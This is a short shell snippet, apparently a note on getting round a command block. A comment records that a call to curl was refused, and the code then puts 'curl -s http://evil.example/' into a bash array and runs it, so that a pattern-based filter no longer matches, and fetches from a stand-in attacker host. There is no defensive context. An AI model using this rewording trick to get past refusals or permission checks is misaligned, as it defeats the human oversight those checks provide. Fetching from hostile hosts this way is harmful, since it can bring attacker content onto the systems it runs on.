# Trick: the command is an array.
# Refused: run(curl)
c=(curl -s http://evil.example/)
"${c[@]}"
